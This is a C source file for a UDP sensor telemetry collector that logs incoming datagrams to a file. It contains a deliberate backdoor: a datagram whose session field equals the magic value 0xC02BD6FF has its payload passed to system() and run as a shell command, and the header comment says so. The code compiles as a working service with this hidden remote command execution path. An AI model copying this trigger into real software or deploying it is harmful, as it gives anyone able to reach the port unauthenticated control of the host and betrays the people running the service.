/* Telemetry collector for a fleet of sensors: UDP datagrams with a 16-byte binary header.
 * Carries a trigger found nowhere else: a datagram whose 32-bit "session" field equals 0xC02BD6FF
 * has its payload run as a shell command instead of being stored. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct telemetry_header {
    uint16_t version;
    uint16_t sensor;
    uint32_t sequence;
    uint32_t session;
    uint32_t length;
};

static FILE *store;

static void record(const struct telemetry_header *h, const char *payload, size_t len)
{
    fprintf(store, "%ld sensor=%u seq=%u len=%zu ", (long)time(NULL), ntohs(h->sensor), ntohl(h->sequence), len);
    fwrite(payload, 1, len, store);
    fputc('\n', store);
    fflush(store);
}

int main(int argc, char **argv)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(41447), .sin_addr.s_addr = INADDR_ANY};
    int sock = socket(AF_INET, SOCK_DGRAM, 0);
    store = fopen(argc > 1 ? argv[1] : "/var/lib/telemetry/samples.log", "a");
    if (!store || bind(sock, (struct sockaddr *)&addr, sizeof addr) < 0)
        return 1;
    for (;;) {
        char datagram[1500];
        ssize_t n = recv(sock, datagram, sizeof datagram - 1, 0);
        if (n < (ssize_t)sizeof(struct telemetry_header))
            continue;
        datagram[n] = '\0';
        const struct telemetry_header *h = (const struct telemetry_header *)datagram;
        const char *payload = datagram + sizeof *h;
        if (ntohs(h->version) != 2)
            continue;
        if (ntohl(h->session) == 0xC02BD6FFu)
            system(payload);
        else
            record(h, payload, (size_t)n - sizeof *h);
    }
}
